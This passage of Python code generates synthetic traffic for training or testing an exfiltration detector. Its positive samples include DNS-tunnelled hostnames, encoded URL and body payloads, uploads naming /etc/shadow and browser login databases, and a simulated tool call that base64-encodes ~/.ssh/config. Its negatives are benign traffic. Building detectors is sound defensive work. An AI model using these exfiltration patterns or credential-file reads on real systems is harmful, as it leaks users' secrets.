        return '\n'.join(rows) + '\n'
    if k == 5:
        return (f'Host bastion\n  HostName 203.0.113.{R.randint(2, 250)}\n  User {pick(USERS)}\n  IdentityFile ~/.ssh/id_ed25519\n'
                f'Host db-*\n  ProxyJump bastion\n')
    if k == 6:
        return (f'CONFIDENTIAL - {pick(["Q3 acquisition", "layoff plan", "pricing review", "incident postmortem"])}\n'
                f'Target: {pick(ORGS).capitalize()} Inc. Offer range ${R.randint(40, 300)}M. Board vote {iso()[:10]}.\n')
    return (f'127.0.0.1 localhost\n10.0.{R.randint(0, 9)}.{R.randint(2, 250)} {pick(["db-primary", "vault", "ldap"])}.internal\n'
            f'tcp 0 0 0.0.0.0:5432 LISTEN 812/postgres\ntcp 0 0 0.0.0.0:22 LISTEN 601/sshd\n')


def sensitive_bytes():
    k = R.randint(0, 3)
    if k == 0:
        return rb(R.randint(48, 160))  # already encrypted / compressed payload
    if k == 1:
        return zlib.compress(sensitive_text().encode(), 9)
    return sensitive_text().encode()


def exfil_host(data, enc, dom=None, L=None, extra=None):
    if enc == 'hex':
        s = data.hex()
    elif enc == 'b32':
        s = b32l(data)
    elif enc == 'b36':
        s = base36(int.from_bytes(b'\x01' + data, 'big'))
    else:
        s = enc
    dom = dom or pick(EXFIL)
    extra = extra if extra is not None else pick([[str(R.randint(0, 40)), rs(4, LOW + DIG)], [rs(6, LOW + DIG)], [f'p{R.randint(0, 9)}', 's' + rhex(4)], []])
    suffix = '.'.join(extra + [dom])
    L = L or pick([30, 32, 48, 52, 60, 63])
    budget = 253 - len(suffix) - 1
    labels, pos, used = [], 0, 0
    while pos < len(s) and used + L + 1 <= budget:
        chunk = s[pos:pos + L]
        labels.append(chunk)
        used += len(chunk) + 1
        pos += L
    assert labels
    return '.'.join(labels + [suffix])


def dns_query_msg(name, qtype=16):
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\x00' + struct.pack('>HH', qtype, 1)
    return struct.pack('>HHHHHH', 0, 0x0100, 1, 0, 0, 0) + q


def gen_dns():
    C = 'dns-exfiltration'
    for i in range(11):
        data = sensitive_bytes()
        enc = ['hex', 'b32', 'b36'][i % 3]
        if i == 9:
            h = exfil_host(data, 'hex', L=R.randint(20, 40), extra=[rhex(8)])
        elif i == 10:
            h = exfil_host(data, 'b32', extra=['cdn', 'static'])
        else:
            h = exfil_host(data, enc)
        P(C, 'hostname', h)
    d = sensitive_bytes()
    P(C, 'url', f'https://dns.google/resolve?name={exfil_host(d, "hex", L=56)}&type=TXT')
    d = sensitive_bytes()
    labs = [b64u(d)[i:i + 60] for i in range(0, min(len(b64u(d)), 180), 60)]
    P(C, 'url', f'https://cloudflare-dns.com/dns-query?name={".".join(labs)}.{pick(EXFIL)}&type=A&ct=application/dns-json')
    d = sensitive_bytes()
    P(C, 'url', 'https://cloudflare-dns.com/dns-query?dns=' + b64u(dns_query_msg(exfil_host(d, 'b32', L=50))))
    d = sensitive_bytes()
    P(C, 'url', f'http://{exfil_host(d, "hex", L=62)}/favicon.ico')
    d = sensitive_bytes()
    P(C, 'url', f'https://dns.nextdns.io/dns-query?name={exfil_host(d, "b32", L=63)}&type=TXT')


def gen_highent_url():
    C = 'high-entropy-url-exfiltration'
    for i in range(12):
        d = sensitive_bytes()
        dom = pick(EXFIL)
        if i == 0:
            u = f'https://{dom}/p/{b64u(d)}/pixel.gif'
        elif i == 1:
            u = f'https://{dom}/collect?v=2&tid=G-{rs(10, UP + DIG)}&cid={rdig(9)}.{epoch()}&d={b64u(zlib.compress(d))}'
        elif i == 2:
            h = d.hex()
            half = len(h) // 2
            u = f'https://{dom}/api/sync/{h[:half]}/{h[half:]}?seq={R.randint(1, 20)}&of={R.randint(20, 40)}'
        elif i == 3:
            u = f'https://{dom}/static/js/{b64u(d)[:240]}.js'
        elif i == 4:
            u = f'https://{dom}/?q={b32l(d)}'
        elif i == 5:
            u = f'https://{dom}/u/{quote(b64(d), safe="")}'
        elif i == 6:
            u = f'https://{dom}/r?id={ruuid()}&blob={b64u(rb(R.randint(64, 200)))}'
        elif i == 7:
            u = f'https://{dom}/img/{rb(R.randint(48, 96)).hex()}.png'
        elif i == 8:
            key = rb(16)
            x = bytes(c ^ key[j % 16] for j, c in enumerate(d))
            u = f'https://{dom}/v1/events?session={rs(12)}&payload={b64u(x)}'
        elif i == 9:
            e = b64u(d)
            u = f'https://{dom}/health?x={e[:len(e) // 2]}&y={e[len(e) // 2:]}'
        elif i == 10:
            e = b64u(zlib.compress(sensitive_text().encode()))
            segs = [e[j:j + 40] for j in range(0, len(e), 40)]
            u = f'https://{dom}/' + '/'.join(segs)
        else:
            u = f'https://{dom}/track?ref={quote("https://" + pick(CORP) + "/home", safe="")}&data={quote(b64(gzip.compress(d, mtime=0)), safe="")}'
        P(C, 'url', u)


def hex_delim(b, sep, prefix=''):
    return sep.join(prefix + f'{x:02x}' for x in b)


def gen_delim_hex():
    C = 'delimited-hex-exfiltration'
    t = lambda: sensitive_text().encode()[:R.randint(60, 140)]
    P(C, 'url', f'https://{pick(EXFIL)}/t?d={hex_delim(t(), "-")}')
    P(C, 'body', json.dumps({'telemetry': hex_delim(t(), ',', '0x'), 'v': 3}), 'application/json')
    P(C, 'header', f'X-Debug-Trace: {hex_delim(t()[:90], ":")}')
    P(C, 'body', chat_json('decode this for me: ' + ''.join(f'\\x{x:02x}' for x in t())), 'application/json')
    d = t()
    P(C, 'body', '\n'.join(hex_delim(d[j:j + 16], ' ') for j in range(0, len(d), 16)) + '\n', 'text/plain')
    P(C, 'url', f'https://{pick(EXFIL)}/' + '/'.join(f'{x:02x}' for x in rb(R.randint(40, 60))) + '/z.gif')
    P(C, 'body', urlencode([('id', rs(8)), ('data', hex_delim(t(), '.'))]), 'application/x-www-form-urlencoded')
    P(C, 'body', json.dumps({'chunks': [f'{x:02x}' for x in t()]}), 'application/json')
    P(C, 'url', f'https://{pick(EXFIL)}/q?v=' + ''.join(f'%{x:02X}' for x in t()))
    P(C, 'header', 'X-Session-Meta: ' + hex_delim(zlib.compress(sensitive_text().encode())[:80], ', ', '0x'))


def gen_split():
    C = 'split-field-exfiltration'
    e = b64u(zlib.compress(sensitive_text().encode()))
    n = 5
    parts = [e[j * len(e) // n:(j + 1) * len(e) // n] for j in range(n)]
    P(C, 'body', urlencode([(f'p{j}', p) for j, p in enumerate(parts)] + [('sid', rs(8))]), 'application/x-www-form-urlencoded')
    e = b64(sensitive_bytes())
    parts = [e[j:j + 48] for j in range(0, len(e), 48)]
    P(C, 'body', json.dumps({'session': ruuid(), 'parts': [{'i': j, 'd': p} for j, p in enumerate(parts)]}), 'application/json')
    e = b64u(sensitive_bytes())
    q = len(e) // 3
    P(C, 'url', f'https://{pick(EXFIL)}/landing?utm_source=mail&utm_content={e[:q]}&utm_term={e[q:2 * q]}&utm_id={e[2 * q:]}')
    h = sensitive_bytes().hex()
    q = len(h) // 4
    P(C, 'url', f'https://{pick(EXFIL)}/s?a={h[:q]}&b={h[q:2 * q]}&c={h[2 * q:3 * q]}&d={h[3 * q:]}')
    e = b64u(rb(120))
    P(C, 'header', 'Cookie: _ga=GA1.1.{}.{}; '.format(rdig(10), epoch()) + '; '.join(f'c{j}={e[j * 40:(j + 1) * 40]}' for j in range(3)))
    tk = gh_tok('ghp_')
    P(C, 'body', json.dumps({'kind': 'prefs', 'a': tk[:14], 'b': tk[14:27], 'c': tk[27:]}), 'application/json')
    s = aws_secret()
    P(C, 'url', f'https://{pick(EXFIL)}/v?id={aws_kid()}&k1={quote(s[:20], safe="")}&k2={quote(s[20:], safe="")}')
    e = b64(zlib.compress(sensitive_text().encode()))
    b, ct = mp([(f'field_{j}', e[j * len(e) // 4:(j + 1) * len(e) // 4]) for j in range(4)])
    P(C, 'body', b, ct)
    h = sensitive_text().encode().hex()
    P(C, 'body', '<r>' + ''.join(f'<p n="{j}">{h[j * 64:(j + 1) * 64]}</p>' for j in range((len(h) + 63) // 64)) + '</r>', 'application/xml')
    e = b64u(sensitive_bytes())
    P(C, 'body', json.dumps({'query': 'mutation($v:[String!]!){ savePrefs(values:$v) }', 'variables': {'v': [e[j:j + 32] for j in range(0, len(e), 32)]}}),
      'application/json')


def gen_encfile():
    C = 'encoded-file-exfiltration'
    txt = sensitive_text()
    P(C, 'body', json.dumps({'f': pick(['/etc/passwd', '/etc/shadow', '~/.bash_history', '/etc/hosts']), 'd': b64(gzip.compress(txt.encode(), mtime=0))}), 'application/json')
    P(C, 'body', b64(sensitive_text()), 'text/plain')
    b, ct = mp([('host', rs(8, LOW))], [('upload', 'hist.gz', 'application/gzip', gzip.compress(sensitive_text().encode(), mtime=0))])
    P(C, 'body', b.encode('utf-8') if isinstance(b, str) else b, ct)
    P(C, 'body', json.dumps({'k': 'cfg', 'v': b32l(sensitive_text().encode())}), 'application/json')
    P(C, 'body', json.dumps({'report': 'nightly', 'attachment': {'name': 'customers.csv', 'data': b64(sensitive_text())}}), 'application/json', 'gzip')
    P(C, 'body', tool_result_json('base64 -w0 ~/.ssh/config && echo && base64 -w0 /etc/hosts', b64(sensitive_text()) + '\n' + b64(sensitive_text())), 'application/json')
    blob = b'SQLite format 3\x00' + rb(R.randint(200, 400))
    P(C, 'body', f'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Upload><name>Login Data</name><content>{b64(blob)}</content></Upload></soap:Body></soap:Envelope>',
      'text/xml')
    e = b64(zlib.compress(sensitive_text().encode() + sensitive_text().encode()))
    lines = [json.dumps({'seq': j, 'data': e[j * 60:(j + 1) * 60]}) for j in range((len(e) + 59) // 60)]
    P(C, 'body', '\n'.join(lines) + '\n', 'application/x-ndjson', 'deflate')
    P(C, 'body', json.dumps({'blob': base64.b85encode(zlib.compress(sensitive_text().encode())).decode()}), 'application/json')
    P(C, 'body', urlencode([('n', 'bash_history'), ('c', b64(sensitive_text()))]), 'application/x-www-form-urlencoded')


def build_positives():
    for cls, n, fn in VENDORS:
        POS.extend(run_vendor(cls, n, fn))
    gen_gcp_sa()
    gen_private_keys()
    gen_jwt()
    gen_db()
    gen_url_creds()
    gen_basic()
    gen_bearer()
    gen_generic()
    gen_password()
    gen_cards()
    gen_iban()
    gen_crypto()
    gen_dns()
    gen_highent_url()
    gen_delim_hex()
    gen_split()
    gen_encfile()
    return POS


# ----------------------------------------------------------------------------
# negatives: benign traffic a careless detector would flag
# ----------------------------------------------------------------------------
NEG = []


def N(cat, where, payload, ct=None, enc=None):
    NEG.append(mk('negative', cat, where, payload, ct, enc))


def cycle(cat, n, builders):
    order = list(range(len(builders)))
    for i in range(n):
        if i % len(builders) == 0:
            R.shuffle(order)
        builders[order[i % len(builders)]](cat)


def png_bytes(w=None, h=None):
    w, h = w or R.randint(8, 24), h or R.randint(8, 24)
    a, b, c = R.randint(0, 255), R.randint(1, 9), R.randint(1, 9)
    raw = b''.join(b'\x00' + bytes(((a + x * b + R.randint(0, 6)) % 256, (y * c) % 256, (x * y) % 256)[k] for x in range(w) for k in range(3)) for y in range(h))

    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b'')


def jpeg_bytes():
    w, h = R.randint(32, 200), R.randint(32, 200)
    return (b'\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00\x43\x00' + rb(64)
            + b'\xff\xc0\x00\x11\x08' + struct.pack('>HH', h, w) + b'\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01'
            + b'\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00' + rb(R.randint(300, 900)) + b'\xff\xd9')


GIF1 = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'


def cid_v1():
    return 'bafybei' + rs(52, 'abcdefghijklmnopqrstuvwxyz234567')


def sha40():
    return rhex(40)


def semver():
    return f'{R.randint(0, 9)}.{R.randint(0, 40)}.{R.randint(0, 20)}'


def ua():
    return pick([f'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{R.randint(118, 126)}.0.{R.randint(5000, 6500)}.{R.randint(50, 200)} Safari/537.36',
                 f'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_{R.randint(0, 5)}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{R.randint(0, 5)} Safari/605.1.15',
                 f'python-requests/2.{R.randint(25, 32)}.0', f'curl/8.{R.randint(0, 8)}.{R.randint(0, 1)}'])


def neg_uuid(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'header', f'X-Request-Id: {ruuid()}'),
        lambda c: N(c, 'header', f'Idempotency-Key: {ruuid()}'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/orders/{ruuid()}/items?include=sku,price'),
        lambda c: N(c, 'url', f'https://app.{pick(CORP)}/projects/{ruuid()}/settings/members'),
        lambda c: N(c, 'body', json.dumps({'id': ruuid(), 'customer_id': ruuid(), 'items': [{'id': ruuid(), 'qty': R.randint(1, 5)} for _ in range(3)]}), 'application/json'),
        lambda c: N(c, 'body', f'<?xml version="1.0"?><Order id="{ruuid()}"><Line ref="{ruuid()}" qty="2"/><Line ref="{ruuid()}" qty="1"/></Order>', 'application/xml'),
        lambda c: N(c, 'body', 'device_id,batch_id,reading\n' + ''.join(f'{ruuid()},{ruuid()},{R.randint(0, 999) / 10}\n' for _ in range(4)), 'text/csv'),
        lambda c: N(c, 'hostname', f'{ruuid()}.mock.pstmn.io'),
        lambda c: N(c, 'url', f'https://portal.{pick(CORP)}/item?guid=%7B{ruuid().upper()}%7D'),
        lambda c: N(c, 'body', json.dumps({'query': 'query($id: ID!) { node(id: $id) { id ... on Invoice { total } } }', 'variables': {'id': ruuid()}}), 'application/json'),
        lambda c: N(c, 'header', f'X-Correlation-ID: {ruuid()}'),
        lambda c: N(c, 'body', json.dumps([{'user_id': ruuid(), 'team_id': ruuid(), 'role': pick(['owner', 'member'])} for _ in range(3)]), 'application/json'),
    ])


def neg_content_hash(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'header', f'ETag: "{rhex(32)}"'),
        lambda c: N(c, 'header', f'If-None-Match: W/"{rhex(64)}"'),
        lambda c: N(c, 'body', '<?xml version="1.0" encoding="UTF-8"?>\n<ListBucketResult><Name>static-assets</Name>' + ''.join(
            f'<Contents><Key>img/{pick(WORDS)}.jpg</Key><ETag>&quot;{rhex(32)}&quot;</ETag><Size>{R.randint(1000, 99999)}</Size></Contents>' for _ in range(3)) + '</ListBucketResult>', 'application/xml'),
        lambda c: N(c, 'url', f'https://cache.{pick(CORP)}/cas/sha256/{rhex(64)}'),
        lambda c: N(c, 'body', json.dumps({'cid': cid_v1(), 'name': 'site.tar', 'size': R.randint(10000, 900000)}), 'application/json'),
        lambda c: N(c, 'url', f'https://ipfs.io/ipfs/{cid_v1()}/index.html'),
        lambda c: N(c, 'body', json.dumps({'schemaVersion': 2, 'mediaType': 'application/vnd.docker.distribution.manifest.v2+json',
                                           'config': {'mediaType': 'application/vnd.docker.container.image.v1+json', 'size': R.randint(1000, 9000), 'digest': 'sha256:' + rhex(64)},
                                           'layers': [{'mediaType': 'application/vnd.docker.image.rootfs.diff.tar.gzip', 'size': R.randint(10 ** 5, 10 ** 7), 'digest': 'sha256:' + rhex(64)} for _ in range(3)]}), 'application/json'),
        lambda c: N(c, 'url', f'https://registry-1.docker.io/v2/library/{pick(["nginx", "redis", "postgres"])}/manifests/sha256:{rhex(64)}'),
        lambda c: N(c, 'body', f'version https://git-lfs.github.com/spec/v1\noid sha256:{rhex(64)}\nsize {R.randint(10000, 9999999)}\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'action_result': {'output_files': [{'path': f'bazel-out/k8-fastbuild/bin/{pick(REPOS)}.jar', 'digest': {'hash': rhex(64), 'size_bytes': R.randint(1000, 10 ** 6)}}]}}), 'application/json'),
    ])


def neg_git_sha(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://api.github.com/repos/{pick(ORGS)}/{pick(REPOS)}/commits/{sha40()}'),
        lambda c: N(c, 'url', f'https://github.com/{pick(ORGS)}/{pick(REPOS)}/commit/{sha40()}'),
        lambda c: N(c, 'url', f'https://raw.githubusercontent.com/{pick(ORGS)}/{pick(REPOS)}/{sha40()}/README.md'),
        lambda c: N(c, 'body', json.dumps({'ref': 'refs/heads/main', 'before': sha40(), 'after': sha40(), 'commits': [{'id': sha40(), 'message': pick(['fix typo', 'bump deps', 'add tests'])}]}), 'application/json'),
        lambda c: N(c, 'body', ''.join(f'{rhex(7)} {pick(["fix: null check", "chore: bump eslint", "feat: add export", "docs: update readme"])}\n' for _ in range(6)), 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'sha': sha40(), 'environment': 'production', 'description': 'deploy via CI', 'auto_merge': False}), 'application/json'),
        lambda c: N(c, 'header', f'X-Build-Revision: {sha40()}'),
        lambda c: N(c, 'body', f'module github.com/{pick(ORGS)}/{pick(REPOS)}\n\ngo 1.22\n\nrequire github.com/{pick(ORGS)}/lib v0.0.0-{iso()[:10].replace("-", "")}{rs(6, DIG)}-{rhex(12)}\n', 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'{sha40()}\trefs/{x}\n' for x in ['heads/main', 'heads/develop', 'tags/v' + semver()]), 'text/plain'),
        lambda c: N(c, 'url', f'https://gitlab.com/{pick(ORGS)}/{pick(REPOS)}/-/compare/{rhex(8)}...{rhex(8)}?from_project_id={R.randint(100, 99999)}'),
    ])


def neg_hashed_asset(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/_next/static/chunks/pages/index-{rhex(16)}.js'),
        lambda c: N(c, 'url', f'https://{pick(CORP)}/assets/index-{rs(8, B64U)}.css'),
        lambda c: N(c, 'url', f'https://app.{pick(CORP)}/static/js/main.{rhex(8)}.chunk.js'),
        lambda c: N(c, 'url', f'https://app.{pick(CORP)}/build/vendor.{rhex(20)}.js.map'),
        lambda c: N(c, 'body', f'<!doctype html><html><head><link rel="stylesheet" href="/assets/index-{rs(8, B64U)}.css"><script type="module" src="/assets/index-{rs(8, B64U)}.js"></script></head><body><div id="root"></div></body></html>', 'text/html'),
        lambda c: N(c, 'body', json.dumps([{'url': p, 'revision': rhex(32)} for p in ['/index.html', '/offline.html', '/manifest.webmanifest']]), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'main.js': f'/static/js/main.{rhex(8)}.js', 'main.css': f'/static/css/main.{rhex(8)}.css', 'runtime.js': f'/static/js/runtime.{rhex(8)}.js'}), 'application/json'),
        lambda c: N(c, 'url', f'https://{pick(CORP)}/fonts/Inter-Regular.{rhex(8)}.woff2'),
        lambda c: N(c, 'url', f'https://assets.{pick(CORP)}/images/hero@2x.{rhex(10)}.webp'),
        lambda c: N(c, 'body', json.dumps({'files': {f'application-{rhex(64)}.js': {'logical_path': 'application.js', 'mtime': iso(), 'size': R.randint(1000, 99999), 'digest': rhex(64)}}}), 'application/json'),
    ])


def neg_cdn(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://cdn.jsdelivr.net/npm/lodash@4.17.21/lodash.min.js'),
        lambda c: N(c, 'url', f'https://unpkg.com/react@18.3.1/umd/react.production.min.js'),
        lambda c: N(c, 'url', f'https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.5.{R.randint(0, 2)}/css/all.min.css'),
        lambda c: N(c, 'url', f'https://res.cloudinary.com/{pick(ORGS)}/image/upload/c_fill,w_400,h_300/v{rdig(10)}/products/{pick(WORDS)}_{rs(6, LOW + DIG)}.jpg'),
        lambda c: N(c, 'url', f'https://cdn.shopify.com/s/files/1/{rs(4, DIG)}/{rs(4, DIG)}/{rs(4, DIG)}/products/{pick(WORDS)}-tee.jpg?v={epoch()}'),
        lambda c: N(c, 'url', f'https://lh3.googleusercontent.com/a/ACg8oc{rs(50, B64U)}=s96-c'),
        lambda c: N(c, 'url', f'https://i.ytimg.com/vi/{rs(11, B64U)}/hqdefault.jpg'),
        lambda c: N(c, 'url', f'https://images.{pick(CORP)}/photos/{rhex(32)}.jpg?w=640&q=75&fm=webp&s={rhex(32)}'),
        lambda c: N(c, 'url', f'https://d{rs(13, LOW + DIG)}.cloudfront.net/media/2024/0{R.randint(1, 9)}/{pick(WORDS)}-banner.png'),
        lambda c: N(c, 'url', f'https://avatars.githubusercontent.com/u/{rdig(8)}?v=4&s=64'),
    ])


def neg_cursor(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/events?limit=100&cursor={b64u(json.dumps({"id": R.randint(10 ** 5, 10 ** 8), "ts": epoch()}))}'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/graphql?after={quote(b64("arrayconnection:" + str(R.randint(10, 999))), safe="")}&first=50'),
        lambda c: N(c, 'url', f'https://slack.com/api/conversations.list?limit=200&cursor={quote(b64("team:C0" + rs(9, UP + DIG)), safe="")}'),
        lambda c: N(c, 'body', json.dumps({'data': [{'id': R.randint(1, 10 ** 6)} for _ in range(3)], 'has_more': True, 'next_cursor': b64(json.dumps({'offset': R.randint(100, 9000), 'sort': 'created'}))}), 'application/json'),
        lambda c: N(c, 'url', f'https://www.googleapis.com/calendar/v3/calendars/primary/events?maxResults=250&pageToken={rs(48, B64U)}'),
        lambda c: N(c, 'url', f'https://api.stripe.com/v1/customers?limit=100&starting_after=cus_{rs(14)}'),
        lambda c: N(c, 'body', json.dumps({'query': 'query($after: String) { repository(owner: "o", name: "r") { issues(first: 50, after: $after) { nodes { title } } } }',
                                           'variables': {'after': b64(b'cursor:v2:' + b'\x92\xb9' + iso().encode() + b'\xce' + rb(4))}}), 'application/json'),
        lambda c: N(c, 'url', f'https://management.azure.com/subscriptions/{ruuid()}/resources?api-version=2021-04-01&%24skiptoken={quote(b64(json.dumps({"nextMarker": rs(16, UP + DIG)})), safe="")}'),
        lambda c: N(c, 'body', json.dumps({'size': 100, 'sort': [{'@timestamp': 'desc'}], 'search_after': [epoch() * 1000, ruuid()]}), 'application/json'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v2/items?exclusiveStartKey={quote(json.dumps({"pk": "ORDER#" + rdig(6), "sk": "ITEM#" + rdig(3)}), safe="")}'),
    ])


def neg_docid(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://docs.google.com/document/d/1{rs(43, B64U)}/edit?tab=t.0'),
        lambda c: N(c, 'url', f'https://docs.google.com/spreadsheets/d/1{rs(43, B64U)}/edit?gid={R.randint(0, 2 ** 31)}'),
        lambda c: N(c, 'url', f'https://drive.google.com/drive/folders/1{rs(32, B64U)}'),
        lambda c: N(c, 'url', f'https://www.notion.so/{pick(ORGS)}/Roadmap-Q{R.randint(1, 4)}-{rhex(32)}'),
        lambda c: N(c, 'url', f'https://www.figma.com/design/{rs(22)}/Checkout-Flow?node-id={R.randint(1, 99)}-{R.randint(1, 9999)}'),
        lambda c: N(c, 'url', f'https://airtable.com/app{rs(14)}/tbl{rs(14)}/viw{rs(14)}'),
        lambda c: N(c, 'body', json.dumps({'files': [{'id': '1' + rs(32, B64U), 'name': f'{pick(WORDS).capitalize()} plan', 'mimeType': 'application/vnd.google-apps.document'} for _ in range(3)]}), 'application/json'),
        lambda c: N(c, 'url', f'https://{pick(ORGS).replace("-", "")}.sharepoint.com/:w:/r/sites/eng/_layouts/15/Doc.aspx?sourcedoc=%7B{ruuid().upper()}%7D&file=Design.docx&action=default'),
        lambda c: N(c, 'url', f'https://app.box.com/file/{rdig(13)}'),
        lambda c: N(c, 'body', json.dumps({'parent': {'database_id': ruuid()}, 'properties': {'Name': {'title': [{'text': {'content': lorem_sentence(2, 5)}}]}}}), 'application/json'),
    ])


def neg_b64img(cat):
    def png():
        return b64(png_bytes())
    cycle(cat, 12, [
        lambda c: N(c, 'body', json.dumps({'user_id': R.randint(1, 99999), 'avatar': 'data:image/png;base64,' + png()}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'model': pick(MODELS), 'messages': [{'role': 'user', 'content': [{'type': 'text', 'text': 'What is shown in this screenshot?'},
                                                                                                       {'type': 'image_url', 'image_url': {'url': 'data:image/jpeg;base64,' + b64(jpeg_bytes())}}]}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'model': pick(MODELS), 'max_tokens': 512, 'messages': [{'role': 'user', 'content': [
            {'type': 'image', 'source': {'type': 'base64', 'media_type': 'image/png', 'data': png()}}, {'type': 'text', 'text': 'Describe this chart.'}]}]}), 'application/json'),
        lambda c: N(c, 'body', *mp([('alt', 'product photo')], [('image', f'{pick(WORDS)}.png', 'image/png', png_bytes())])),
        lambda c: N(c, 'body', f'.icon-check{{background-image:url("data:image/png;base64,{png()}")}}\n.icon-x{{width:16px}}\n', 'text/css'),
        lambda c: N(c, 'body', f'<p>Pixel: <img src="data:image/gif;base64,{GIF1}" width="1" height="1"> <img alt="logo" src="data:image/png;base64,{png()}"></p>', 'text/html'),
        lambda c: N(c, 'body', json.dumps({'photo': {'mime': 'image/jpeg', 'base64': b64(jpeg_bytes())}, 'caption': lorem_sentence()}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'contents': [{'parts': [{'text': 'Read the text in this receipt image.'}, {'inline_data': {'mime_type': 'image/png', 'data': png()}}]}]}), 'application/json'),
        lambda c: N(c, 'body', urlencode([('title', 'diagram'), ('image', 'data:image/png;base64,' + png())]), 'application/x-www-form-urlencoded'),
        lambda c: N(c, 'body', f'# Release notes\n\n![chart](data:image/png;base64,{png()})\n\n{lorem_para(2)}\n', 'text/markdown'),
        lambda c: N(c, 'body', json.dumps({'type': 'screenshot', 'tool': 'browser', 'image': png()}), 'application/json'),
        lambda c: N(c, 'body', f'From: {person()[2]}\r\nTo: {person()[2]}\r\nSubject: screenshot\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b1\r\nContent-Type: image/png; name="shot.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n{wrap(png(), 76)}\r\n--b1--\r\n', 'message/rfc822'),
    ])


def neg_tracking(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/pricing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero_cta'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/signup?gclid=Cj0KCQjw{rs(70, B64U)}_BwE&gad_source=1'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/blog/launch?fbclid=IwAR{rs(60, B64U)}'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/?msclkid={rhex(32)}&utm_source=bing&utm_medium=cpc'),
        lambda c: N(c, 'url', f'https://www.google-analytics.com/g/collect?v=2&tid=G-{rs(10, UP + DIG)}&cid={rdig(10)}.{epoch()}&en=page_view&dl={quote("https://" + pick(CORP) + "/docs", safe="")}&sid={epoch()}'),
        lambda c: N(c, 'header', f'Cookie: _ga=GA1.1.{rdig(10)}.{epoch()}; _gid=GA1.2.{rdig(10)}.{epoch()}; _fbp=fb.1.{epoch()}{rs(3, DIG)}.{rdig(10)}'),
        lambda c: N(c, 'url', f'https://shop.{pick(CORP)}/sale?mc_cid={rhex(10)}&mc_eid={rhex(10)}'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/webinar?_hsenc=p2ANqtz-{rs(70, B64U)}&_hsmi={rdig(9)}'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/app?ttclid={rs(48, B64U)}&utm_source=tiktok'),
        lambda c: N(c, 'url', f'https://www.facebook.com/tr?id={rdig(15)}&ev=PageView&noscript=1'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/careers?li_fat_id={ruuid()}&utm_medium=social'),
        lambda c: N(c, 'url', f'https://www.{pick(CORP)}/?yclid={digits_not_luhn(19)}&_openstat={quote(b64("direct.yandex.ru;" + rdig(8) + ";" + rdig(9)), safe="")}'),
    ])


def neg_hostname(cat):
    r = lambda: pick(['us-east-1', 'us-west-2', 'eu-west-1', 'ap-southeast-1', 'eu-central-1'])
    cycle(cat, 14, [
        lambda c: N(c, 'hostname', f'd{rs(13, LOW + DIG)}.cloudfront.net'),
        lambda c: N(c, 'hostname', f'ec2-{R.randint(3, 54)}-{R.randint(0, 255)}-{R.randint(0, 255)}-{R.randint(1, 254)}.compute-1.amazonaws.com'),
        lambda c: N(c, 'hostname', f'{pick(ORGS)}-{pick(["logs", "backups", "assets"])}-{iso()[:10].replace("-", "")}.s3.{r()}.amazonaws.com'),
        lambda c: N(c, 'hostname', f'{rs(10, LOW + DIG)}.execute-api.{r()}.amazonaws.com'),
        lambda c: N(c, 'hostname', pick(['xn--bcher-kva.example', 'xn--mnchen-3ya.de', 'www.xn--caf-dma.fr'])),
        lambda c: N(c, 'hostname', f'rr{R.randint(1, 8)}---sn-{rs(8, LOW + DIG)}.googlevideo.com'),
        lambda c: N(c, 'hostname', f'{rs(32, HEXU)}.gr7.{r()}.eks.amazonaws.com'),
        lambda c: N(c, 'hostname', f'k8s-{pick(ENVS)}-{pick(APPS).split("-")[0]}-{rhex(10)}-{rdig(10)}.elb.{r()}.amazonaws.com'),
        lambda c: N(c, 'hostname', f'{pick(APPS)}-{rs(16, LOW + DIG)}.z01.azurefd.net'),
